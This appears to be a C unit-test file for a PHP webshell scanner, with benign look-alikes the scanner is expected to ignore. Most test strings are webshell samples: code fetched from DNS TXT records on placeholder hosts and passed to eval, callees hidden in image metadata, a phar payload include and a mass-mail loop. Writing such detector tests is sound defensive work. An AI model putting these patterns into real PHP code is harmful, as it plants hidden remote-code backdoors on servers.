/* Session 21, lead (train7's webshell misses, seeds 2-3 read, written for
 * the technique): payloads kept in DNS TXT records (dns_get_record(), a
 * fixed dig/host/nslookup TXT command) and in a picture's metadata used as
 * the callee, or reached through `??` and array_column(); the look-alikes
 * (an MX check, a DNS TXT verification, a gallery printing EXIF) stay
 * quiet or below high. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "php_expect.h"

static void test_dns_txt_payload(void **state)
{
	(void)state;
	expect("<?php $r = dns_get_record('k.example.net', DNS_TXT); $c = '';\n"
	       "foreach ($r as $t) { $c .= $t['txt']; } eval(base64_decode($c));",
	       "php.remote_code_exec", HS_SEV_HIGH);
	expect("<?php $t = @dns_get_record($_COOKIE['k'] . '.x.example.org', DNS_TXT);\n"
	       "$f = function () use ($t) { eval(gzinflate(base64_decode(implode('', "
	       "array_column($t, 'txt'))))); }; $f();",
	       "php.remote_code_exec", HS_SEV_HIGH);
	/* the TXT record fetched by a fixed command, written to a cache, included */
	expect("<?php $c = sys_get_temp_dir() . '/.' . md5('n');\n"
	       "$rec = shell_exec('dig +short TXT n.example.net');\n"
	       "file_put_contents($c, base64_decode(str_replace('\"', '', $rec))); include $c;",
	       "php.remote_code_exec", HS_SEV_HIGH);
	expect("<?php $o = `host -t txt cfg.example.com`; eval(base64_decode(trim($o)));",
	       "php.remote_code_exec", HS_SEV_HIGH);
	expect(
	    "<?php $o = shell_exec(\"nslookup -q=txt p.example.com\"); assert(base64_decode($o));",
	    "php.remote_code_exec", HS_SEV_HIGH);
}

static void test_dns_lookalikes(void **state)
{
	(void)state;
	/* a domain verification and an MX check: the records are compared, printed */
	quiet(
	    "<?php $r = dns_get_record($domain, DNS_TXT);\n"
	    "foreach ($r as $t) { if ($t['txt'] === 'site-verification=' . $token) { $ok = true; } "
	    "}\necho $ok ? 'verified' : 'not yet';");
	quiet("<?php $mx = dns_get_record($d, DNS_MX); foreach ($mx as $m) echo "
	      "htmlspecialchars($m['target']), \"\\n\";");
	not_high("<?php $spf = shell_exec('dig +short TXT ' . escapeshellarg($d));\n"
	         "echo strpos($spf, 'v=spf1') !== false ? 'SPF ok' : 'no SPF';");
	/* a fixed dig of A records is not a TXT channel */
	quiet("<?php $ip = trim(shell_exec('dig +short A example.com')); echo $ip;");
}

static void test_picture_metadata_callee(void **state)
{
	(void)state;
	expect("<?php $e = @exif_read_data(__DIR__ . '/IMG_1.jpg'); $f = $e['Make'];\n"
	       "$f($e['Model']);",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php $m = exif_read_data(dirname(__FILE__) . '/b.jpg');\n"
	       "$p = preg_split('/\\|/', $m['ImageDescription']);\n"
	       "if (isset($_REQUEST[$p[0]])) array_map($p[1], array($_REQUEST[$p[0]]));",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php getimagesize(__DIR__ . '/p.jpg', $i); $t = iptcparse($i['APP13']);\n"
	       "$c = $t['2#120'][0] ?? ''; eval(gzinflate(base64_decode($c)));",
	       "php.asset_payload_eval", HS_SEV_HIGH);
	expect("<?php $info = array(); getimagesize($_SERVER['DOCUMENT_ROOT'] . '/a.jpg', $info);\n"
	       "if (isset($info['APP13'])) { $x = iptcparse($info['APP13']);\n"
	       "  $c = $x['2#120'][0] ?? null; if ($c) { @eval(base64_decode($c)); } }",
	       "php.asset_payload_eval", HS_SEV_HIGH);
}

static void test_picture_metadata_lookalikes(void **state)
{
	(void)state;
	/* a gallery prints the camera and the caption */
	quiet("<?php $e = @exif_read_data($path); $make = $e['Make'] ?? 'unknown';\n"
	      "echo '<dd>', htmlspecialchars($make), '</dd>';\n"
	      "getimagesize($path, $info); $iptc = isset($info['APP13']) ? "
	      "iptcparse($info['APP13']) : [];\n"
	      "echo htmlspecialchars($iptc['2#120'][0] ?? '');");
	/* a callback fixed in the code, applied to the metadata */
	quiet(
	    "<?php $e = exif_read_data($f); $clean = array_map('trim', (array) ($e['Keywords'] ?? "
	    "[]));\necho implode(', ', array_map('htmlspecialchars', $clean));");
}

/* held-out set 2's benign phar stubs (found by make eval): the member with no
 * extension is the packaged tool's command, not a payload */
static void test_phar_stub_quiet(void **state)
{
	(void)state;
	quiet("<?php Phar::mapPhar('composer.phar');\nrequire 'phar://composer.phar/bin/composer';"
	      "\n__HALT_COMPILER();");
	quiet("<?php Phar::mapPhar('tool.phar'); require 'phar://tool.phar/src/cli/run';");
	expect("<?php include 'phar://' . __DIR__ . '/backup.zip/readme.txt';",
	       "php.archive_payload_include", HS_SEV_HIGH);
}

/* gzfile() reads a (gzipped) file's lines as file() does: a list beside the
 * script (fix9-mail's report: php-cli-home-cache) */
static void test_gzfile_list(void **state)
{
	(void)state;
	expect("<?php foreach (gzfile(__DIR__ . '/.l.gz') as $to) {\n"
	       "  mail(trim($to), $_POST['s'], $_POST['b']); }",
	       "php.mass_mail_loop", HS_SEV_HIGH);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_dns_txt_payload),
	    cmocka_unit_test(test_dns_lookalikes),
	    cmocka_unit_test(test_picture_metadata_callee),
	    cmocka_unit_test(test_picture_metadata_lookalikes),
	    cmocka_unit_test(test_phar_stub_quiet),
	    cmocka_unit_test(test_gzfile_list),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
